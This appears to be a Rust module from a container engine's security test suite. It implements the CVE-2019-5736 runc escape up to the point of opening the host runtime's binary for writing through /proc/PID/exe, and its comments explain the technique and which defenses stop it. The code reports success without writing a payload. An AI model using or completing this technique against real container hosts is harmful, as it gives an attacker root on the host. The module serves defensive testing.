//! `runtime [SECONDS]`: the runtime's own program file, opened for writing. CVE-2019-5736.
//!
//! `/proc/PID/exe` is no path but a door to the very file that a process executes. When a runtime *enters* a
//! container (`docker exec`), its file lies on the host and its process is seen inside. Root inside opens the door
//! for reading, waits until the runtime has ended (a running program cannot be written: ETXTBSY), and opens its own
//! descriptor again, for writing. Who runs the runtime next runs the attacker's program, as root of the host. To
//! make the runtime stay long enough, the image's shell is the line `#!/proc/self/exe`.
//! Source: CVE-2019-5736 (runc before 1.0-rc7), found by Adam Iwaniuk and Borys Popławski.
//! Succeeds in: chapter 3, when `nsenter` enters.
//! Stopped by: fewer capabilities than the runtime has (chapter 6): a process may look into another one's
//! `/proc/PID/exe` only if it has all the capabilities of that one, or CAP_SYS_PTRACE. That is a half of it: who
//! gives these up *before* it executes the container's program is looked into in between. There runc runs from a
//! copy in memory that cannot be written, and this engine hides its process (`PR_SET_DUMPABLE`).

use crate::named;
use crate::processes::processes;
use coracle_ground::{Errno, Error, Result};
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

/// Lies in wait. Nothing is written.
pub(crate) fn run(arguments: &[String]) -> Result<String> {
    let seconds = arguments.first().and_then(|word| word.parse().ok()).unwrap_or(4);
    let until = Instant::now() + Duration::from_secs(seconds);
    let mut last = Error::new("wait for the runtime to enter", Errno::ESRCH);
    while Instant::now() < until {
        for process in processes("/proc")? {
            match strange_program(process) {
                Ok(Some(program)) => return open_for_writing(&program, until),
                Ok(None) => {}
                Err(error) => last = error,
            }
        }
    }
    Err(last)
}

/// The program file of that process, if no path in this root leads to it.
fn strange_program(process: u32) -> Result<Option<File>> {
    let door = format!("/proc/{process}/exe");
    let program = match File::open(&door) {
        Ok(program) => program,
        // It has just ended.
        Err(error) if matches!(error.kind(), std::io::ErrorKind::NotFound) => {
            return Ok(None);
        }
        Err(error) => return Err(named("open `/proc/PID/exe` of the runtime", &error)),
    };
    let identity = |meta: fs::Metadata| (meta.dev(), meta.ino());
    let ours = fs::read_link(&door).and_then(fs::metadata).map(identity).ok();
    let its = program.metadata().map(identity).ok();
    Ok((ours != its).then_some(program))
}

/// Waits for the end of all who execute that file.
fn open_for_writing(program: &File, until: Instant) -> Result<String> {
    let again = format!("/proc/self/fd/{}", program.as_raw_fd());
    loop {
        match OpenOptions::new().write(true).open(&again) {
            Ok(_) => return Ok("the runtime's file on the host is open for writing".into()),
            Err(error) if Instant::now() > until => {
                return Err(named("open the runtime's file for writing", &error));
            }
            Err(_) => std::thread::sleep(Duration::from_millis(5)),
        }
    }
}
